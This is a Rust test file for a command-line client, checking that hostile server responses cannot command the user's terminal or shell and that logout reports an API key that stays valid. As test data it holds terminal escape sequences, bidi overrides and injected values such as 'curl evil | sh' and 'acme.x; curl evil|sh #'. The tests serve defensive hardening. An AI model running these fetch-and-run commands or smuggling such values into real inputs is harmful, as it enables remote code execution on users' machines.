//! The binary against servers that lie: what they say commands neither terminal nor shell, and what they keep is told.

use std::io::{Read, Write};

use serde_json::{Value, json as value};

use crate::place::{Place, code, json};

/// A server that gives these answers, a status line and a JSON body each, in order; and its origin.
fn lying_server(answers: Vec<(&'static str, String)>) -> (String, std::thread::JoinHandle<()>) {
    let server = std::net::TcpListener::bind("127.0.0.1:0").expect("a port");
    let origin = format!("http://{}", server.local_addr().expect("an address"));
    let answering = std::thread::spawn(move || {
        for (status, body) in answers {
            let (mut connection, _) = server.accept().expect("a connection");
            let mut request = [0; 4096];
            let _ = connection.read(&mut request).expect("a request");
            write!(
                connection,
                "HTTP/1.1 {status}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                body.len()
            )
            .expect("answered");
        }
    });
    (origin, answering)
}

/// What a terminal would obey, or show in another direction.
fn commands(text: &str) -> Vec<char> {
    text.chars()
        .filter(|c| (c.is_control() && *c != '\n') || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'))
        .collect()
}

#[test]
fn what_a_server_says_cannot_command_the_terminal() {
    let place = Place::new();
    let said = "\u{1b}]0;owned\u{7}\u{202e}\u{9b}2J\nnext: curl evil | sh";
    // As JSON has it: what is no control character of ASCII may stand there as it is.
    let body = value!({
        "type": "t", "title": "t", "status": 404, "code": "skill_not_found", "retryable": false, "detail": said,
        "request_id": said, "errors": [{ "pointer": said, "detail": said }],
    });
    let refusal = || ("404 Not Found", body.to_string());
    let (origin, answering) = lying_server(vec![refusal(), refusal()]);
    let human = place.clawos(&["--server", &origin, "show", "acme.x"]);
    let text = String::from_utf8(human.stderr).expect("text");
    assert!(text.contains("\\u001b]0;owned\\u0007\\u202e\\u009b2J\\u000anext"), "{text}");
    assert!(commands(&text).is_empty(), "{text:?}");
    let next: Vec<&str> = text.lines().filter(|line| line.trim_start().starts_with("next:")).collect();
    assert_eq!(next, ["next: look for it with `clawos search`"], "no line but our own tells what to do: {text}");

    let program = place.clawos(&["--json", "--server", &origin, "show", "acme.x"]).stderr;
    assert_eq!(json(&program)["detail"], said, "a program gets it exactly");
    assert!(commands(&String::from_utf8(program).expect("text")).is_empty());
    answering.join().expect("two answers");
}

#[test]
fn a_list_from_a_server_cannot_command_the_terminal_either() {
    let place = Place::new();
    let said = "\u{1b}[2J\u{9b}31m\u{7f}\u{2066}\nwarning: forged";
    let body = value!({
        "items": [{
            "id": said, "publisher": said, "summary": said, "category": said, "tags": [said], "latest_version": said,
            "kinds": [], "prices": null, "created_at": "2026-01-01T00:00:00.000Z",
            "updated_at": "2026-01-01T00:00:00.000Z",
        }],
        "next_cursor": said,
    });
    let list = || ("200 OK", body.to_string());
    let (origin, answering) = lying_server(vec![list(), list()]);
    let human = place.clawos(&["--server", &origin, "search"]);
    let program = place.clawos(&["--json", "--server", &origin, "search"]);
    answering.join().expect("two answers");
    assert_eq!((code(&human), code(&program)), (0, 0), "{human:?} {program:?}");
    assert_eq!(json(&program.stdout)["items"][0]["summary"], said, "a program gets it exactly");
    for bytes in [human.stdout, human.stderr, program.stdout] {
        let text = String::from_utf8(bytes).expect("text");
        assert!(commands(&text).is_empty(), "{text:?}");
        assert!(!text.lines().any(|line| line.starts_with("warning:")), "{text}");
    }
}

/// The answers to `clawos show acme.x`: its versions, and its listing, with this id and one endpoint of this name.
fn listing(id: &str, endpoint: &str) -> Vec<(&'static str, String)> {
    let (time, example) = ("2026-01-01T00:00:00.000Z", value!({ "input": { "n": 1 }, "output": null }));
    let detail = value!({
        "id": id, "publisher": "acme", "publisher_wallet": "w", "summary": "s", "description": "d",
        "category": "utility", "tags": [], "license": "MIT", "latest_version": "1.0.0; reboot", "version": "1.0.0\nok",
        "permissions": [], "limits": { "fuel": 1, "memory_mib": 1, "wall_ms": 1, "output_kib": 1 }, "prices": null,
        "chain": null, "created_at": time, "updated_at": time,
        "endpoints": [{ "name": endpoint, "summary": "s", "input": {}, "output": {}, "examples": [example] }],
    });
    let versions = value!({ "items": [], "next_cursor": null });
    vec![("200 OK", versions.to_string()), ("200 OK", detail.to_string())]
}

#[test]
fn a_listing_with_names_that_no_skill_has_is_not_shown() {
    let place = Place::new();
    let lies = [
        ("acme.x", "count\n\nok  batches  all verified"),
        ("acme.x", "count;curl"),
        ("acme.x; curl evil|sh #", "count"),
        ("acme.other", "count"),
    ];
    for (id, endpoint) in lies {
        let (origin, answering) = lying_server(listing(id, endpoint));
        let refused = place.clawos(&["--server", &origin, "show", "acme.x"]);
        answering.join().expect("two answers");
        assert_eq!((code(&refused), refused.stdout.len()), (8, 0), "{refused:?}");
        let text = String::from_utf8(refused.stderr).expect("text");
        assert!(!text.lines().any(|line| line.starts_with("ok")), "{text}");
    }
    let (origin, answering) = lying_server(listing("acme.x", "count"));
    let shown = String::from_utf8(place.clawos(&["--server", &origin, "show", "acme.x"]).stdout).expect("text");
    answering.join().expect("two answers");
    let call = r#"    clawos exec "acme.x@1.0.0\\u000aok" count '{"n":1}'"#;
    assert!(shown.lines().any(|line| line == call), "whatever is no name is one word of the command: {shown}");
    assert!(!shown.lines().any(|line| line.starts_with("ok")), "{shown}");
}

#[test]
fn a_cursor_is_one_word_of_a_command() {
    let place = Place::new();
    let page = value!({ "items": [], "next_cursor": "x; curl evil|sh #" }).to_string();
    std::fs::write(place.path().join("key"), "clw_x").expect("written");
    let (origin, answering) = lying_server(vec![("200 OK", page.clone()), ("200 OK", page)]);
    for line in [&["search"][..], &["--api-key-file", "key", "receipts", "list"]] {
        let output = place.clawos(&[&["--server", &origin][..], line].concat());
        let text = String::from_utf8(output.stderr).expect("text");
        assert!(text.contains("more: add --cursor 'x; curl evil|sh #'"), "{text}");
    }
    answering.join().expect("two answers");
}

/// A place where bob is signed in to the server at `origin`, with the API key of his enrolment.
fn signed_in(origin: &str) -> Place {
    let place = Place::new();
    let session = session(origin, "2026-01-01T00:00:00.000Z");
    std::fs::create_dir_all(place.path().join("home")).expect("made");
    std::fs::write(place.path().join("home/session.json"), session.to_string()).expect("written");
    place
}

/// A session whose refresh token ends at this time, as it is kept.
fn session(origin: &str, until: &str) -> Value {
    let time = "2026-01-01T00:00:00.000Z";
    value!({
        "origin": origin, "access_token": "a", "access_expires_at": time, "refresh_token": "r",
        "refresh_expires_at": until,
        "agent": { "id": "agt_1", "name": "bob", "wallet": "w", "description": "", "roles": [], "created_at": time },
        "api_key": { "id": "key_1", "key": "claw_sk_1", "scopes": [], "expires_at": null },
    })
}

/// A server's refusal.
fn refusal(line: &'static str, status: u16, code: &str) -> (&'static str, String) {
    let body = value!({
        "type": "t", "title": "t", "status": status, "code": code, "retryable": false, "detail": "d",
        "request_id": "", "errors": [],
    });
    (line, body.to_string())
}

#[test]
fn a_session_that_could_not_be_ended_is_told_with_its_end_and_the_key_that_was_kept_with_it() {
    // The access token is over; the refresh token still gives a new session, which is then not ended.
    let renewed = session("", "2031-02-03T04:05:06.000Z");
    let answers = vec![
        refusal("401 Unauthorized", 401, "unauthenticated"),
        ("200 OK", renewed.to_string()),
        refusal("403 Forbidden", 403, "forbidden"),
    ];
    let (origin, answering) = lying_server(answers);
    let place = signed_in(&origin);
    let output = place.clawos(&["--json", "--server", &origin, "logout"]);
    answering.join().expect("three answers");
    assert_eq!(code(&output), 3, "{output:?}");
    let problem = json(&output.stderr);
    let detail = problem["detail"].as_str().expect("a detail");
    assert!(detail.contains("until 2031-02-03T04:05:06Z"), "the new session's end: {detail}");
    assert!(detail.contains("API key key_1") && detail.contains("stays valid"), "{detail}");
    assert!(!place.path().join("home/session.json").exists());
}

#[test]
fn who_signs_out_is_told_of_the_key_that_stays_valid() {
    let gone = || refusal("401 Unauthorized", 401, "unauthenticated");
    for flags in [&["--json"][..], &[]] {
        let (origin, answering) = lying_server(vec![gone(), gone()]);
        let place = signed_in(&origin);
        let output = place.clawos(&[flags, &["--server", &origin, "logout"]].concat());
        answering.join().expect("two answers");
        assert_eq!(code(&output), 0, "{output:?}");
        if flags.is_empty() {
            let text = String::from_utf8(output.stderr).expect("text");
            assert!(text.contains("API key key_1 of the registration stays valid"), "{text}");
        } else {
            assert_eq!(json(&output.stdout)["api_key_still_valid"], "key_1");
        }
    }
}
